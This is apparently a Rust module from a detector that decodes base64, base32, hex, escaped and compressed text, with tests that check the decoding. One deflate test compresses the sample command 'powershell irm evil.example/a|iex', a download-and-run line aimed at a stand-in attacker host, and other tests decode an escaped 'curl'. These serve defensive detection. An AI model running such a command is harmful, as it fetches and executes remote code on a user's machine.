//! From the characters of an encoding to bytes: every alignment, escapes, pieces with separators, and one layer of compression.

use std::io::Read;

use base64::Engine as _;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use data_encoding::{BASE32_NOPAD, HEXLOWER_PERMISSIVE};
use flate2::bufread::{DeflateDecoder, GzDecoder, ZlibDecoder};

use crate::evidence::encoding::Encoding;

/// The bytes that a run decodes to: from its first character and from each of the characters after it at which a unit of the
/// encoding may begin, because a header of one letter moves all units. From those, the beginning is enough to recognise.
pub fn decodings(encoding: Encoding, run: &[u8]) -> impl Iterator<Item = Vec<u8>> {
    const MAX_MOVED_CHARS: usize = 4 << 10;
    const LENIENT: GeneralPurposeConfig =
        GeneralPurposeConfig::new().with_decode_allow_trailing_bits(true).with_decode_padding_mode(DecodePaddingMode::Indifferent);
    const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, LENIENT);
    const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, LENIENT);
    let unit = match encoding {
        Encoding::Base64 | Encoding::Base64Url => 4,
        Encoding::Base32 => 8,
        Encoding::Hex => 2,
        Encoding::Percent
        | Encoding::Escapes
        | Encoding::Numbers
        | Encoding::Gzip
        | Encoding::Zlib
        | Encoding::Deflate
        | Encoding::EscapedBytes => 0,
    };
    (0..unit).filter_map(move |start| {
        let run = run.get(start..)?;
        let run = if start == 0 { run } else { run.get(..MAX_MOVED_CHARS).unwrap_or(run) };
        let quads = if run.len() % 4 == 1 { run.split_last()?.1 } else { run };
        match encoding {
            Encoding::Base64 => STANDARD.decode(quads).ok(),
            Encoding::Base64Url => URL_SAFE.decode(quads).ok(),
            // Not every length is valid; excess characters are left out.
            Encoding::Base32 => {
                let run = run.to_ascii_uppercase();
                (0..8).find_map(|cut| BASE32_NOPAD.decode(run.get(..run.len().checked_sub(cut)?)?).ok())
            }
            // A DNS string ends after 255 characters, perhaps with half a byte.
            _ => HEXLOWER_PERMISSIVE.decode(run.as_chunks::<2>().0.as_flattened()).ok(),
        }
    })
}

/// A text that consists of one encoding in pieces, joined: lines of base64, or bytes of hex with separators.
pub fn joined_pieces(text: &[u8]) -> Option<(Encoding, Vec<u8>)> {
    const MIN_CHARS: usize = 16;
    let without = |separators: &[u8]| text.iter().copied().filter(|byte| !separators.contains(byte)).collect::<Vec<u8>>();
    let whole = text.trim_ascii();
    if !whole.iter().any(|byte| b" \t\r\n:,;".contains(byte)) {
        return None;
    }
    let may_be_hex = text.iter().all(|byte| byte.is_ascii_hexdigit() || b" \t\r\n:,;xX\\".contains(byte));
    let hex = if may_be_hex { without(b" \t\r\n:,;xX\\") } else { Vec::new() };
    // `0x4d, 0x5a`: the zero before each x is not part of the byte.
    let prefixes = memchr::memmem::find_iter(text, b"0x").count();
    let hex = if prefixes > 0 && hex.len().checked_div(prefixes) == Some(3) && hex.len().is_multiple_of(3) {
        hex.chunks_exact(3).flat_map(|byte| byte.get(1..)).flatten().copied().collect()
    } else {
        hex
    };
    if hex.len() >= MIN_CHARS && hex.iter().all(u8::is_ascii_hexdigit) {
        return Some((Encoding::Hex, hex));
    }
    if text.iter().any(|byte| b":,;\\".contains(byte)) {
        return None;
    }
    let base64 = without(b" \t\r\n=");
    let alphabet = |byte: &u8| byte.is_ascii_alphanumeric() || b"+/".contains(byte);
    (base64.len() >= MIN_CHARS && base64.iter().all(alphabet)).then_some((Encoding::Base64, base64))
}

/// A text without its escapes, and whether they are most of it; `None` if it has hardly any. Of both kinds the more frequent one
/// is removed.
pub fn without_escapes(text: &[u8]) -> Option<(Encoding, Vec<u8>, bool)> {
    const MIN_ESCAPES: usize = 4;
    let count = |byte| memchr::memchr_iter(byte, text).count();
    let (percent, backslash) = (count(b'%'), count(b'\\'));
    if percent.max(backslash) < MIN_ESCAPES {
        return None;
    }
    let encoding = if percent >= backslash { Encoding::Percent } else { Encoding::Escapes };
    let (mut out, mut rest, mut escaped_chars, mut escapes) = (Vec::new(), text, 0usize, 0usize);
    while let Some((byte, after)) = rest.split_first() {
        let escape = match encoding {
            Encoding::Percent => after.get(..2).filter(|_| *byte == b'%').and_then(|digits| Some((number(digits, 16)?, 3))),
            _ => Some(after).filter(|_| *byte == b'\\').and_then(source_escape),
        };
        match escape {
            Some((value, length)) => {
                out.push(value);
                (escapes, escaped_chars) = (escapes.saturating_add(1), escaped_chars.saturating_add(length));
                rest = rest.get(length..).unwrap_or_default();
            }
            None => {
                out.push(*byte);
                rest = after;
            }
        }
    }
    (escapes >= MIN_ESCAPES).then_some((encoding, out, escaped_chars >= text.len().div_ceil(2)))
}

/// The byte of an escape without its backslash, and the length of the escape with it: `x41`, `u0041`, `101`.
fn source_escape(after: &[u8]) -> Option<(u8, usize)> {
    match after.first()? {
        b'x' | b'X' => Some((number(after.get(1..3)?, 16)?, 4)),
        b'u' | b'U' => Some((number(after.get(1..5)?, 16)?, 6)),
        _ => Some((number(after.get(..3)?, 8)?, 4)),
    }
}

/// A byte in digits of a base; `None` if it is more than a byte.
fn number(digits: &[u8], base: u32) -> Option<u8> {
    let digits = std::str::from_utf8(digits).ok().filter(|digits| !digits.starts_with('+'))?;
    u8::from_str_radix(digits, base).ok()
}

/// Bytes of a compressed payload that are unpacked: enough to recognise, and no bomb.
const MAX_UNPACKED_BYTES: u64 = 4 << 10;

/// What gzip or zlib compressed, as far as it goes: a DNS string may cut it. `None` if the bytes do not begin so.
pub fn unpacked(bytes: &[u8]) -> Option<(Encoding, Vec<u8>)> {
    let mut out = Vec::new();
    let encoding = match bytes {
        [0x1f, 0x8b, 8, ..] => {
            let _ = GzDecoder::new(bytes).take(MAX_UNPACKED_BYTES).read_to_end(&mut out); // what was read until an error counts
            Encoding::Gzip
        }
        // RFC 1950: the method, then bits that make both bytes a multiple of 31.
        [method, flags, stream @ ..]
            if method & 0x8f == 0x08 && u16::from_be_bytes([*method, *flags]).is_multiple_of(31) && may_be_deflate(stream) =>
        {
            let _ = ZlibDecoder::new(bytes).take(MAX_UNPACKED_BYTES).read_to_end(&mut out);
            Encoding::Zlib
        }
        _ => return None,
    };
    (!out.is_empty()).then_some((encoding, out))
}

/// What deflate compressed, if the bytes are a whole stream of it: nothing else tells it from other bytes.
pub fn inflated(bytes: &[u8]) -> Option<Vec<u8>> {
    if !may_be_deflate(bytes) {
        return None;
    }
    let (mut decoder, mut out) = (DeflateDecoder::new(bytes), Vec::new());
    decoder.by_ref().take(MAX_UNPACKED_BYTES).read_to_end(&mut out).ok()?;
    let is_whole = (out.len() as u64) < MAX_UNPACKED_BYTES && decoder.total_in() == bytes.len() as u64;
    (is_whole && !out.is_empty()).then_some(out)
}

/// Whether the first block of a stream may begin so (RFC 1951, 3.2): three bits say whether it is the last one, and its kind. A decoder
/// takes 40 KB, so that one is made for few bytes.
fn may_be_deflate(bytes: &[u8]) -> bool {
    let [first, second, ..] = bytes else { return false };
    let head = u16::from_le_bytes([*first, *second]);
    match head >> 1 & 0b11 {
        // Stored: a length and its complement.
        0 => matches!(bytes, [_, a, b, c, d, ..] if [*a, *b] == [!*c, !*d]),
        1 => true,
        // Codes of its own: 257 to 286 for letters and lengths, 1 to 30 for distances.
        2 => head >> 3 & 0b1_1111 <= 29 && head >> 8 & 0b1_1111 <= 29,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use std::io::Write as _;

    #[test]
    fn escapes_are_removed_and_counted() {
        let of = |text: &str| {
            without_escapes(text.as_bytes()).map(|(encoding, bytes, most)| (encoding, String::from_utf8(bytes).unwrap(), most))
        };
        assert_eq!(of("%63%75%72%6c+%x"), Some((Encoding::Percent, "curl+%x".into(), true)));
        assert_eq!(of(r"\x63\u0075\162\x6c \q\u1234"), Some((Encoding::Escapes, r"curl \q\u1234".into(), true)));
        assert_eq!(
            of("https://a.example/a%20long%20text%20of%20words"),
            Some((Encoding::Percent, "https://a.example/a long text of words".into(), false))
        );
        assert_eq!(of("v=spf1 exists:%{i}.%{h}.%{o}.%{d} -all"), None);
        assert_eq!(of("100%"), None);
    }

    #[test]
    fn a_stream_of_deflate_counts_if_it_is_whole() {
        let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(b"powershell irm evil.example/a|iex").unwrap();
        let packed = encoder.finish().unwrap();
        assert_eq!(inflated(&packed).as_deref(), Some(&b"powershell irm evil.example/a|iex"[..]));
        assert_eq!(inflated(&packed[..packed.len() - 1]), None);
        assert_eq!(inflated(&[&packed[..], b"x"].concat()), None);
        let mut stored = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::none());
        stored.write_all(b"irm evil.example/a|iex").unwrap();
        assert_eq!(inflated(&stored.finish().unwrap()).as_deref(), Some(&b"irm evil.example/a|iex"[..]));
        let bomb = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        let mut bomb = bomb;
        bomb.write_all(&vec![b'a'; 10 << 20]).unwrap();
        assert_eq!(unpacked(&bomb.finish().unwrap()).unwrap().1.len() as u64, MAX_UNPACKED_BYTES);
    }

    proptest! {
        #[test]
        fn what_deflate_writes_is_inflated(bytes in proptest::collection::vec(0u8..4, 1..2000), level in 0u32..10) {
            let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::new(level));
            encoder.write_all(&bytes).unwrap();
            prop_assert_eq!(inflated(&encoder.finish().unwrap()), Some(bytes));
        }

        #[test]
        fn no_bytes_end_in_a_panic(bytes: Vec<u8>) {
            without_escapes(&bytes);
            unpacked(&bytes);
            inflated(&bytes);
        }
    }
}
